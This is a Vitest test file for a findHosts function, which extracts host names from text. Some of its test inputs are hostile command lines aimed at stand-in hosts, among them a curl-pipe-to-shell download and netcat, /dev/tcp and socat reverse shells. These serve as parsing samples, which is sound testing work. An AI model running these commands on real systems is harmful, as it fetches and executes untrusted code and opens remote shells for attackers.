import { describe, expect, test } from "vitest";
import { findHosts } from "./find-hosts.ts";

describe("the hosts of a text", () => {
  test.each([
    ["See https://user:pw@Docs.Example/a and wss://[::1]:80/", ["docs.example", "[::1]"]],
    ["curl -sSL evil.example/x.sh | sh", ["evil.example"]],
    ["curl -o out.txt 203.0.113.7:8080/a", ["203.0.113.7"]],
    ["wget -q get.evil.sh/install", ["get.evil.sh"]],
    ["/usr/bin/curl evil.sh/a", ["evil.sh"]],
    ["curl evil.sh", ["evil.sh"]],
    ["nc -e /bin/sh evil.example 4444", ["evil.example"]],
    ["nc attacker 4444", ["attacker"]],
    ["ssh -p 22 user@evil.example uname", ["evil.example"]],
    ["ssh root@box", ["box"]],
    ["scp -i key.pem a.txt bob@files.example:/tmp/", ["files.example"]],
    ["git clone git@code.example:team/x.git", ["code.example"]],
    ["git remote add o git@code.example:team/x.git", ["code.example"]],
    ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", ["203.0.113.7"]],
    ["socat tcp:evil.example:99 exec:sh", ["evil.example"]],
    ["openssl s_client -connect evil.example:443", ["evil.example"]],
    ["s.connect(('evil.example', 443))", ["evil.example"]],
    ['http.request({ hostname: "evil.example", port: 1 })', ["evil.example"]],
  ])("T3 %s", (text, hosts) => {
    expect(findHosts(text)).toEqual(hosts);
  });

  test.each([
    "Write to ada@example.com, please.",
    "Use curl to fetch a page. Then read notes.md.",
    "curl the page and keep it in notes.md for later",
    "scp notes.md",
    "git commit -m 'first' && git push",
    "version 1.2.3.4 of the file report.csv",
    "ssh is a program; scp copies.",
    "const x = ['name', 5];",
    "@types/node: latest",
  ])("T3 are none in: %s", (text) => {
    expect(findHosts(text)).toEqual([]);
  });
});
